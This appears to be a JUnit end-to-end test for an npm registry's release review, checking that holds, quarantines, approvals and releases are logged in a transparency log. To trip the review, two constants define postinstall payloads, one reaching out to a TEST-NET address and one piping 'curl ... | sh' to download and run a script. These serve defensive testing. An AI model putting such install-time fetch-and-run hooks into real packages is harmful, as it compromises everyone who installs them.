package dev.warden.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;

import dev.warden.server.testing.Authenticator;
import dev.warden.server.testing.LogReader;
import dev.warden.server.testing.TestServer;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * Every hold, quarantine, approval and release of the release review is an entry of the
 * transparency log, read as anyone reads it (the log API under {@code /-/log/}, each statement
 * opened with the registry's published key) after a real {@code npm publish}.
 *
 * <p>The payloads are inert: they name only TEST-NET addresses and are never run.
 */
class ReviewLogTest {

    static TestServer server;

    @BeforeAll
    static void start() throws Exception {
        server = TestServer.start();
    }

    @AfterAll
    static void stop() throws Exception {
        server.close();
    }

    record Maintainer(String name, Map<String, String> env, Authenticator app) {}

    static Maintainer maintainer(Path dir, String name) throws Exception {
        Path home = Files.createDirectories(dir.resolve(name));
        String token = server.token(name);
        Clients.login(home, server.url(), token);
        return new Maintainer(
                name,
                Clients.env(home, server.url()),
                server.enableTwoFactor(name, token, "auth-only"));
    }

    /** Publishes {@code pkg} 1.0.0, then 1.1.0 with {@code setupJs} run at install; its stage. */
    static String publishBad(Path dir, Maintainer m, String pkg, String setupJs) throws Exception {
        Clients.npm(
                        Clients.writePackage(
                                dir.resolve(pkg + "-1.0.0"),
                                "{\"name\":\"" + pkg + "\",\"version\":\"1.0.0\"}",
                                Map.of("index.js", "module.exports = 1;\n")),
                        m.env(),
                        "publish")
                .ok();
        Clients.Run r =
                Clients.npm(
                                Clients.writePackage(
                                        dir.resolve(pkg + "-1.1.0"),
                                        "{\"name\":\""
                                                + pkg
                                                + "\",\"version\":\"1.1.0\",\"scripts\":{\"postinstall\":\"node"
                                                + " setup.js\"}}",
                                        Map.of(
                                                "index.js",
                                                "module.exports = 2;\n",
                                                "setup.js",
                                                setupJs)),
                                m.env(),
                                "publish",
                                "--loglevel=notice")
                        .ok();
        Matcher id = Pattern.compile("npm stage approve ([0-9a-f-]{36})").matcher(r.all());
        assertThat(id.find()).as(r.all()).isTrue();
        return id.group(1);
    }

    static final String REACHES_NETWORK =
            "require('https').get('https://192.0.2.1/x', r => r.pipe(process.stdout));\n";

    static final String RUNS_A_DOWNLOAD =
            "const cp = require('child_process');\n"
                    + "cp.exec('curl -s http://192.0.2.1/p.sh | sh');\n";

    /** The log's statements of {@code kind} about {@code pkg}. */
    static List<JsonNode> logged(String kind, String pkg) throws Exception {
        return LogReader.statements(server.http()).stream()
                .filter(s -> s.path("kind").asText().equals(kind))
                .filter(s -> s.path("package").asText().equals(pkg))
                .toList();
    }

    static void approve(Path dir, Maintainer m, String stage) throws Exception {
        Clients.npm(dir, m.env(), "stage", "approve", stage, "--otp=" + m.app().next()).ok();
    }

    @Test
    void aHoldIsALogEntryWithWhyAndTheReview(@TempDir Path dir) throws Exception {
        Maintainer m = maintainer(dir, "rl-hal");
        String stage = publishBad(dir, m, "rl-held", REACHES_NETWORK);

        List<JsonNode> held = logged("stage.created", "rl-held");
        assertThat(held).hasSize(1);
        JsonNode s = held.get(0);
        assertThat(s.path("version").asText()).isEqualTo("1.1.0");
        assertThat(s.path("actor").asText()).isEqualTo("rl-hal");
        assertThat(s.path("stageId").asText()).isEqualTo(stage);
        assertThat(s.path("heldBecause").asText()).contains("[install-time-reach]");
        assertThat(s.path("review").path("action").asText()).isEqualTo("hold");
        assertThat(logged("package.published", "rl-held"))
                .extracting(p -> p.path("version").asText())
                .containsExactly("1.0.0");
    }

    @Test
    void aQuarantineIsALogEntryOfItsOwnKind(@TempDir Path dir) throws Exception {
        Maintainer m = maintainer(dir, "rl-quinn");
        String stage = publishBad(dir, m, "rl-quar", RUNS_A_DOWNLOAD);

        List<JsonNode> quarantined = logged("stage.quarantined", "rl-quar");
        assertThat(quarantined).hasSize(1);
        JsonNode s = quarantined.get(0);
        assertThat(s.path("version").asText()).isEqualTo("1.1.0");
        assertThat(s.path("stageId").asText()).isEqualTo(stage);
        assertThat(s.path("review").path("action").asText()).isEqualTo("quarantine");
        assertThat(s.path("review").path("findings").toString())
                .contains("install-downloads-executable");
        assertThat(logged("stage.created", "rl-quar")).isEmpty();
    }

    @Test
    void anApprovalIsALogEntryNamingItsApprover(@TempDir Path dir) throws Exception {
        Maintainer m = maintainer(dir, "rl-abe");
        String stage = publishBad(dir, m, "rl-approved", REACHES_NETWORK);
        assertThat(logged("stage.approved", "rl-approved")).isEmpty();

        approve(dir, m, stage);

        List<JsonNode> approved = logged("stage.approved", "rl-approved");
        assertThat(approved).hasSize(1);
        JsonNode s = approved.get(0);
        assertThat(s.path("actor").asText()).isEqualTo("rl-abe");
        assertThat(s.path("stageId").asText()).isEqualTo(stage);
        assertThat(s.path("approvals").asInt()).isEqualTo(1);
        assertThat(s.path("approvalsRequired").asInt()).isEqualTo(1);
        assertThat(s.path("review").path("action").asText()).isEqualTo("hold");
    }

    @Test
    void aReleaseOfAQuarantinedVersionIsALogEntryAndItsPublishAnother(@TempDir Path dir)
            throws Exception {
        Maintainer m = maintainer(dir, "rl-rae");
        String stage = publishBad(dir, m, "rl-released", RUNS_A_DOWNLOAD);
        assertThat(logged("stage.released", "rl-released")).isEmpty();

        approve(dir, m, stage);

        List<JsonNode> released = logged("stage.released", "rl-released");
        assertThat(released).hasSize(1);
        JsonNode s = released.get(0);
        assertThat(s.path("version").asText()).isEqualTo("1.1.0");
        assertThat(s.path("stageId").asText()).isEqualTo(stage);
        assertThat(s.path("approvedBy").toString()).contains("rl-rae");
        assertThat(s.path("review").path("action").asText()).isEqualTo("quarantine");
        List<JsonNode> published = logged("package.published", "rl-released");
        assertThat(published)
                .extracting(p -> p.path("version").asText())
                .containsExactly("1.0.0", "1.1.0");
        assertThat(published.get(1).path("actor").asText())
                .as("live with its stager as the publisher")
                .isEqualTo("rl-rae");
    }
}
